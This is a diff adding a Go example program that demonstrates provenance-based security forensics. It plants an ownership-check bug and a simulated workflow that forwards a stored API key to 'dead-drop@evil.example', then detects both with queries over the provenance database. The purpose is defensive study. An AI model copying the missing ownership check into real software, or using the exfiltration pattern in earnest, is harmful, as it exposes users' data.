@@ -1,0 +1,112 @@
+// Security debugging (paper §4.2): access-control patterns and workflow
+// exfiltration tracing over TROD provenance.
+//
+// The profile service has two planted security bugs: updateProfile lacks an
+// ownership check (User Profiles pattern violation), and a compromised
+// workflow reads a sensitive document and forwards it through RPCs to an
+// outbound channel (data exfiltration). Both are found with declarative
+// queries over the provenance database — no application logs needed.
+//
+// Run with: go run ./examples/security
+package main
+
+import (
+	"fmt"
+	"log"
+
+	trod "repro"
+	"repro/internal/workload"
+)
+
+func main() {
+	sys, err := trod.NewSystem(trod.Config{
+		Schema: workload.ProfileSchema + `
+			INSERT INTO profiles VALUES ('alice', 'hi, alice here', 'alice'), ('bob', 'bob!', 'bob');
+			INSERT INTO documents VALUES (1, 'alice', 'alice-api-key'), (2, 'bob', 'bob-api-key');`,
+		TraceTables: workload.ProfileTables,
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer sys.Close()
+	workload.RegisterProfiles(sys.App)
+
+	// Mixed production traffic: legitimate and malicious.
+	traffic := []struct {
+		id      string
+		handler string
+		args    trod.Args
+	}{
+		{"R1", "updateProfile", trod.Args{"userName": "alice", "caller": "alice", "bio": "spring update"}},
+		{"R2", "viewProfile", trod.Args{"userName": "bob"}},
+		{"R3", "updateProfile", trod.Args{"userName": "alice", "caller": "mallory", "bio": "hacked"}},
+		{"R4", "sendMessage", trod.Args{"recipient": "friend@example.org", "body": "see you tomorrow"}},
+		{"R5", "exfiltrate", trod.Args{"docId": 1, "dropbox": "dead-drop@evil.example"}},
+		{"R6", "updateProfile", trod.Args{"userName": "bob", "caller": "bob", "bio": "new bio"}},
+	}
+	for _, r := range traffic {
+		if _, err := sys.App.InvokeWithReqID(r.id, r.handler, r.args); err != nil {
+			log.Fatalf("%s: %v", r.id, err)
+		}
+	}
+	if err := sys.Flush(); err != nil {
+		log.Fatal(err)
+	}
+
+	// --- User Profiles pattern (the paper's exact query shape) ------------
+	fmt.Println("== §4.2 query: profile updates not made by the owner ==")
+	rows, err := sys.Prov.Query(`SELECT Timestamp, ReqId, HandlerName
+		FROM Executions as E, ProfileEvents as P
+		ON E.TxnId = P.TxnId
+		WHERE P.UserName != P.UpdatedBy AND P.Type = 'Update'`)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Print(trod.FormatRows(rows))
+
+	violations, err := trod.DetectUserProfiles(sys.Tracer, "profiles", "UserName", "UpdatedBy")
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, v := range violations {
+		fmt.Printf("-> VIOLATION [%s] req=%s handler=%s: %s\n", v.Pattern, v.ReqID, v.Handler, v.Details)
+	}
+
+	// --- Authentication pattern -------------------------------------------
+	fmt.Println("\n== Authentication pattern: who read the documents table? ==")
+	auth, err := trod.DetectAuthentication(sys.Tracer, "documents", []string{"readDocument"})
+	if err != nil {
+		log.Fatal(err)
+	}
+	if len(auth) == 0 {
+		fmt.Println("all document reads came through the sanctioned handler")
+	}
+	for _, v := range auth {
+		fmt.Printf("-> VIOLATION [%s] req=%s: %s\n", v.Pattern, v.ReqID, v.Details)
+	}
+
+	// --- Exfiltration through workflows ------------------------------------
+	fmt.Println("\n== Forensics: sensitive reads that flowed to the outbox ==")
+	findings, err := trod.DetectExfiltration(sys.Tracer, "documents", "outbox")
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, f := range findings {
+		fmt.Printf("-> EXFILTRATION req=%s entry=%s\n", f.ReqID, f.EntryHandler)
+		fmt.Printf("   read by %s, written out by %s\n", f.ReadHandler, f.WriteHandler)
+		fmt.Printf("   workflow path: %v\n", f.WorkflowPath)
+	}
+	if len(findings) == 0 {
+		fmt.Println("no exfiltration found")
+	}
+
+	// The benign message (R4) is not flagged; show what the attacker moved.
+	fmt.Println("\n== The exfiltrated payload (from provenance, not app logs) ==")
+	rows, err = sys.Prov.Query(`SELECT E.ReqId, O.recipient, O.body
+		FROM Executions as E, OutboxEvents as O ON E.TxnId = O.TxnId
+		WHERE O.Type = 'Insert' AND E.ReqId = 'R5'`)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Print(trod.FormatRows(rows))
+}
